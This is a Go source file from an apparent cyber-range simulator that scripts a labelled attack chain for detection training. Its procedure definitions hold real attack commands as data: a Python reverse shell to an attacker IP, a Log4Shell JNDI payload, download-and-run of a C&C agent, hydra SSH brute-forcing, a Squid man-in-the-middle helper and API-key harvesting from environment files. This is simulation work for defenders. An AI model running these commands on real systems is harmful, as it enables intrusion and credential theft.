package simulate

import (
	"fmt"
	"strings"
	"time"

	"github.com/rangehunt/rangehunt/internal/scenario"
)

// Where a procedure's commands are typed.
const (
	viaAttacker = iota // the operator's shell on the attacker host
	viaAgent           // a task of the C&C agent on the web server
	viaRevShell        // the Python reverse shell on the proxy
	viaSSH             // over SSH from the web server (agent task), run on the target
)

type procDef struct {
	id, name   string
	tactics    []string
	techniques []string
	setup      bool
	via        int
	host       string // host the commands ran on
	targets    []string
	payloads   []string
	executor   string
	sub        []string
}

type revShell struct {
	ts *tcpSess
	sh *proc
}

const (
	attackerIP = "198.51.100.23"
	sshPass    = "Fl0rama#2024"
)

// reverseShellPayload is what the attacker runs on the proxy over SSH.
const reverseShellPayload = `python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("` + attackerIP + `",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])' >/dev/null 2>&1 &`

func floramaProcedures(uuid string) []procDef {
	script := []string{
		"curl -s -o /tmp/.agent http://" + attackerIP + "/agent",
		"chmod +x /tmp/.agent",
		"/tmp/.agent -server http://" + attackerIP + ":8000 -group florama &",
	}
	return []procDef{
		{id: "2_malicious_log4j_server", name: "Start the malicious LDAP referral server for Log4Shell", setup: true,
			tactics: []string{"TA0042"}, techniques: []string{"T1583.004"}, via: viaAttacker, host: "attacker",
			payloads: []string{"mkdir -p /opt/marshalsec/target ; wget -q -O /opt/marshalsec/target/marshalsec-0.0.3-SNAPSHOT-all.jar https://github.com/frohoff/marshalsec/releases/download/v0.0.3/marshalsec-0.0.3-SNAPSHOT-all.jar ; cd /opt/marshalsec ; java -cp target/marshalsec-0.0.3-SNAPSHOT-all.jar marshalsec.jndi.LDAPRefServer 'http://" + attackerIP + "/#Exploit' 1389 &"}, executor: "bash"},
		{id: "3_nginx_server", name: "Serve exploit class and tools with nginx", setup: true,
			tactics: []string{"TA0042"}, techniques: []string{"T1608.001"}, via: viaAttacker, host: "attacker",
			payloads: []string{"wget -q -O /opt/tools/nmap https://github.com/andrew-d/static-binaries/raw/master/binaries/linux/x86_64/nmap ; cp /opt/tools/nmap /opt/tools/hydra /opt/tools/agent /opt/tools/passwords.txt /opt/tools/rw.py /opt/marshalsec/Exploit.class /var/www/html/ ; systemctl start nginx"}, executor: "bash"},
		{id: "7_api_control", name: "Start the C&C server and its control API", setup: true,
			tactics: []string{"TA0011"}, techniques: []string{"T1071.001"}, via: viaAttacker, host: "attacker",
			payloads: []string{"python3 /opt/c2/server.py --bind 0.0.0.0:8000 --api 127.0.0.1:5000 &", "nc -lvnp 4444 &"}, executor: "bash"},
		{id: "13_log4j_exploit", name: "Exploit Log4Shell (CVE-2021-44228) in Tomcat", tactics: []string{"TA0001", "TA0002"},
			techniques: []string{"T1190", "T1059.004"}, via: viaAttacker, host: "attacker", targets: []string{"172.16.0.10"},
			payloads: []string{"curl -s http://172.16.0.10:8080/ -H 'X-Api-Version: ${jndi:ldap://" + attackerIP + ":1389/Exploit}'"},
			executor: "bash", sub: append([]string{"sh /tmp/" + uuid + ".sh"}, script...)},
		{id: "14_ingress_tool_transfer", name: "Download nmap to the web server", tactics: []string{"TA0011"},
			techniques: []string{"T1105"}, via: viaAgent, host: "web", targets: []string{attackerIP},
			payloads: []string{"wget -q -O /tmp/nmap http://" + attackerIP + "/nmap"}, executor: "sh"},
		{id: "33_subnet_scan", name: "Scan the intranet for live hosts", tactics: []string{"TA0007"},
			techniques: []string{"T1018", "T1046"}, via: viaAgent, host: "web", targets: []string{"172.16.1.0/24"},
			payloads: []string{"chmod +x /tmp/nmap ; /tmp/nmap -sn -n 172.16.1.0/24 2>/dev/null | grep 'scan report'"}, executor: "sh"},
		{id: "46_port_scan", name: "Scan the target server's ports", tactics: []string{"TA0007"},
			techniques: []string{"T1046"}, via: viaAgent, host: "web", targets: []string{"172.16.1.4"},
			payloads: []string{"chmod +x /tmp/nmap ; ( /tmp/nmap -Pn -F 172.16.1.4; /tmp/nmap -Pn -p 8530,8531 172.16.1.4 ) 2>/dev/null | grep open ; rm /tmp/nmap"}, executor: "sh"},
		{id: "47_proxy_reach", name: "Reach the intranet through the Squid proxy", tactics: []string{"TA0011"},
			techniques: []string{"T1090"}, via: viaAgent, host: "web", targets: []string{"172.16.0.20", "172.16.1.4"},
			payloads: []string{"curl -s -o /dev/null -w '%{http_code}' -x http://172.16.0.20:3128 http://172.16.1.4:8530/"}, executor: "sh"},
		{id: "50_ssh_bruteforce", name: "Brute-force SSH on the proxy", tactics: []string{"TA0006"},
			techniques: []string{"T1110.001"}, via: viaAgent, host: "web", targets: []string{"172.16.0.20"},
			payloads: []string{"cd /tmp ; wget -q http://" + attackerIP + "/hydra http://" + attackerIP + "/passwords.txt ; chmod +x hydra ; ./hydra -l root -P passwords.txt -t 4 -f ssh://172.16.0.20 ; rm -f hydra passwords.txt"}, executor: "sh"},
		{id: "52_lateral_remote_control", name: "Run commands on the proxy over SSH", tactics: []string{"TA0008", "TA0002"},
			techniques: []string{"T1021.004"}, via: viaAgent, host: "web", targets: []string{"172.16.0.20"},
			payloads: []string{"sshpass -p '" + sshPass + "' ssh -o StrictHostKeyChecking=no root@172.16.0.20 'id ; uname -a ; hostname'"}, executor: "sh",
			sub: []string{"id", "uname -a", "hostname"}},
		{id: "10_linux_python_reverse_api", name: "Python reverse shell from the proxy", tactics: []string{"TA0002", "TA0011"},
			techniques: []string{"T1059.006"}, via: viaSSH, host: "proxy", targets: []string{attackerIP},
			payloads: []string{reverseShellPayload}, executor: "bash"},
		{id: "62_list_local_process", name: "List local processes", tactics: []string{"TA0007"},
			techniques: []string{"T1057"}, via: viaRevShell, host: "proxy", payloads: []string{"ps aux"}, executor: "sh"},
		{id: "63_software_discovery", name: "Discover installed software", tactics: []string{"TA0007"},
			techniques: []string{"T1518"}, via: viaRevShell, host: "proxy",
			payloads: []string{"dpkg -l | grep -i -E 'squid|python|openssh' ; squid -v"}, executor: "sh"},
		{id: "71_squid_aitm", name: "Rewrite proxied download URLs with a Squid helper", tactics: []string{"TA0006", "TA0009"},
			techniques: []string{"T1557"}, via: viaRevShell, host: "proxy", targets: []string{"172.16.0.20"},
			payloads: []string{"wget -q -O /tmp/.rw.py http://" + attackerIP + "/rw.py ; echo 'url_rewrite_program /usr/bin/python3 /tmp/.rw.py' >> /etc/squid/conf.d/rewrite.conf ; echo 'url_rewrite_children 5' >> /etc/squid/conf.d/rewrite.conf ; squid -k reconfigure"}, executor: "sh"},
		{id: "94_env_var_api_keys_stealing", name: "Steal API keys from environment variables", tactics: []string{"TA0006"},
			techniques: []string{"T1552.001"}, via: viaRevShell, host: "proxy",
			payloads: []string{"env | grep -i -E 'api_?key|token|secret' ; grep -a -h -i -E 'api_?key' /etc/environment /etc/default/squid /root/.bashrc"}, executor: "sh"},
	}
}

// attack drives the florama procedures in order; each starts at its
// planned time or after the previous one, whichever is later.
type attack struct {
	s       *sim
	defs    []procDef
	uuid    string
	agent   *proc
	tasks   []agentTask
	results []uint16
	ran     []scenario.Procedure
	spans   map[string]*[2]int64
}

type agentTask struct {
	payload string
	lbl     uint16
	done    func(start, end int64)
}

func (s *sim) startAttack() {
	a := &attack{s: s, spans: map[string]*[2]int64{}}
	a.uuid = fmt.Sprintf("%08x-%04x-4%03x-%04x-%012x", s.rng.Uint32(), s.rng.IntN(1<<16), s.rng.IntN(1<<12), 0x8000|s.rng.IntN(1<<14), s.rng.Uint64()&(1<<48-1))
	a.defs = floramaProcedures(a.uuid)
	s.att = a
	s.scripts["web:/tmp/"+a.uuid+".sh"] = strings.Join(floramaProcedures(a.uuid)[3].sub[1:], "\n")
	dur := s.end - s.start
	setupAt := s.start + dur/20
	first := s.start + dur*3/20
	last := s.start + dur*17/20
	var attackDefs int
	for _, d := range a.defs {
		if !d.setup {
			attackDefs++
		}
	}
	slot := (last - first) / int64(attackDefs)
	planned := make([]int64, len(a.defs))
	k := 0
	for i, d := range a.defs {
		if d.setup {
			planned[i] = setupAt + int64(i)*(20*sec) + s.rng.Int64N(10*sec)
			continue
		}
		planned[i] = first + int64(k)*slot + s.rng.Int64N(slot/3+1)
		k++
	}
	s.onRequest = a.onRequest
	a.next(0, planned, s.start)
}

func (a *attack) next(i int, planned []int64, after int64) {
	if i >= len(a.defs) {
		return
	}
	s := a.s
	t := planned[i]
	if min := after + 5*sec + s.rng.Int64N(15*sec); t < min {
		t = min
	}
	s.at(t, func() {
		a.run(i, t, func(end int64) { a.next(i+1, planned, end) })
	})
}

// span widens the recorded start/end of procedure id.
func (a *attack) span(id string, start, end int64) {
	if end > a.s.end {
		end = a.s.end // effects after the run are not in the output
	}
	sp := a.spans[id]
	if sp == nil {
		sp = &[2]int64{start, end}
		a.spans[id] = sp
	}
	if start < sp[0] {
		sp[0] = start
	}
	if end > sp[1] {
		sp[1] = end
	}
}

func (a *attack) run(i int, t int64, done func(end int64)) {
	s := a.s
	d := a.defs[i]
	lbl := s.label(d.id)
	w := s.w
	switch d.via {
	case viaAttacker:
		sh := w.attacker.daemons["shell"]
		end := t
		for _, pl := range d.payloads {
			end = s.runShell(sh, pl, end+2*sec+s.rng.Int64N(4*sec), lbl)
		}
		a.span(d.id, t, end)
		done(end)
	case viaAgent, viaSSH:
		pl := d.payloads[0]
		if d.via == viaSSH {
			pl = "sshpass -p '" + sshPass + "' ssh -o StrictHostKeyChecking=no root@172.16.0.20 \"" + strings.ReplaceAll(pl, `"`, `\"`) + "\""
		}
		if a.agent == nil {
			done(t) // the exploit failed to start the agent
			return
		}
		a.tasks = append(a.tasks, agentTask{payload: pl, lbl: lbl, done: func(start, end int64) {
			a.span(d.id, start, end)
			done(end)
		}})
	case viaRevShell:
		rs := s.rev
		if rs == nil || !rs.ts.up {
			done(t)
			return
		}
		end := t
		for _, pl := range d.payloads {
			rs.ts.send(end+sec+s.rng.Int64N(3*sec), false, nil, 0, false, lbl)
			rs.ts.send(rs.ts.t, true, []byte(pl+"\n"), 0, false, lbl)
			start := rs.ts.t + 200*us
			e := s.runShell(rs.sh, pl, start, lbl)
			rs.ts.send(e, false, nil, 300+s.rng.IntN(6000), false, lbl)
			rs.ts.send(rs.ts.t+ms, false, []byte("# "), 0, false, lbl)
			end = rs.ts.t
		}
		a.span(d.id, t, end)
		done(end)
	}
}

// onRequest handles a request arriving at a server: Tomcat's Log4j
// resolves a JNDI lookup in the X-Api-Version header before answering.
func (a *attack) onRequest(srv *host, port int, f fetchSpec, t int64, lbl uint16, at int64) int64 {
	s := a.s
	if srv != s.w.web || port != 8080 {
		return at
	}
	var jndi string
	for _, h := range f.headers {
		if i := strings.Index(h, "${jndi:ldap://"); i >= 0 {
			jndi = strings.TrimSuffix(h[i+len("${jndi:ldap://"):], "}")
		}
	}
	if jndi == "" {
		return at
	}
	hostPort, base, _ := strings.Cut(jndi, "/")
	hostName, _, _ := strings.Cut(hostPort, ":")
	ldapSrv := s.resolveName(hostName)
	java := srv.daemons["java"]
	if ldapSrv == nil || java == nil {
		return at
	}
	ts := s.dial(t+3*ms, srv, ldapSrv, 1389, java, lbl)
	ts.send(ts.t+200*us, true, ldapBind(), 0, false, lbl)
	ts.send(ts.t+ms, false, ldapBindOK(), 0, false, lbl)
	ts.send(ts.t+200*us, true, ldapSearch(base), 0, false, lbl)
	ts.send(ts.t+2*ms, false, ldapReferral(base, "http://"+attackerIP+"/"), 0, false, lbl)
	e := ts.close(ts.t+5*ms, true)
	e = s.httpFetch(e+2*ms, srv, java, fetchSpec{url: "http://" + attackerIP + "/" + base + ".class", size: attackFiles["/Exploit.class"],
		ctype: "application/octet-stream", ua: "Java/17.0.13"}, lbl)
	sh := s.spawn(srv, java, []string{"sh", "/tmp/" + a.uuid + ".sh"}, "/usr/bin/dash", java.cwd, java.u, e+5*ms, lbl, false, false)
	end := s.behave(sh, e+6*ms)
	s.exit(sh, end)
	// The script's processes on the web server belong to the exploit: the
	// procedure's window reaches until they end, so that the attack report
	// covers every event it caused.
	a.span(s.labels[lbl], t, end)
	return e + 8*ms
}

// agentRun is the C&C implant: it beacons to its server every 30 s with
// 30 % jitter, runs tasks with "sh -c" and posts their output at the next
// beacon.
func (s *sim) agentRun(p *proc, t int64) int64 {
	srvURL := argAfter(p.args, "-server")
	var srv *host
	if i := strings.Index(srvURL, "://"); i >= 0 {
		hp := srvURL[i+3:]
		h, _, _ := strings.Cut(hp, ":")
		srv = s.resolveName(h)
	}
	a := s.att
	if a != nil && srv != nil {
		a.agent = p
		ctl := s.label("7_api_control")
		var beacon func()
		beacon = func() {
			now := s.now
			lbl := ctl
			var task *agentTask
			if len(a.results) > 0 {
				lbl = a.results[0]
				a.results = a.results[1:]
			} else if len(a.tasks) > 0 {
				task = &a.tasks[0]
				a.tasks = a.tasks[1:]
				lbl = task.lbl
			}
			body := []byte(`{"paw":"` + a.uuid[:6] + `","host":"web","platform":"linux","executors":["sh"],"pid":` + fmt.Sprint(p.pid) + `}`)
			f := fetchSpec{method: "POST", url: srvURL + "/beacon", body: body, size: 64 + s.rng.IntN(64),
				ctype: "application/json", ua: "Go-http-client/1.1"}
			if task != nil {
				f.size += len(task.payload) + 40
			}
			if task == nil && lbl != ctl {
				f.body = append(f.body[:len(f.body)-1], `,"result":"`+strings.Repeat("A", 200+s.rng.IntN(2000))+`"}`...)
			}
			e := s.httpFetch(now, p.h, p, f, lbl)
			if task == nil && lbl != ctl {
				// This beacon posted a task's output: part of its procedure.
				a.span(s.labels[lbl], e, e)
			}
			if task != nil {
				tk := *task
				start := e + 2*ms
				end := s.shellChild(p, "sh", tk.payload, p.u, p.cwd, start, tk.lbl, false)
				a.results = append(a.results, tk.lbl)
				s.at(end, func() { tk.done(start, end) })
			}
			next := now + 21*sec + s.rng.Int64N(18*sec)
			s.at(next, beacon)
		}
		s.at(t+200*ms, beacon)
	}
	return s.forever()
}

// procedures returns the scenario procedures that ran, in start order.
func (a *attack) procedures(loc *time.Location) []scenario.Procedure {
	var out []scenario.Procedure
	for _, d := range a.defs {
		sp := a.spans[d.id]
		if sp == nil {
			continue
		}
		p := scenario.Procedure{ID: d.id, Name: d.name, Tactics: d.tactics, Techniques: d.techniques, Setup: d.setup,
			Host: d.host, Targets: d.targets, Start: time.Unix(0, sp[0]).In(loc), End: time.Unix(0, sp[1]).In(loc)}
		for _, pl := range d.payloads {
			c := scenario.Command{Payload: pl, Executor: d.executor}
			if d.id == "13_log4j_exploit" || d.id == "52_lateral_remote_control" {
				c.SubCommands = d.sub
			}
			p.Commands = append(p.Commands, c)
		}
		out = append(out, p)
	}
	return out
}
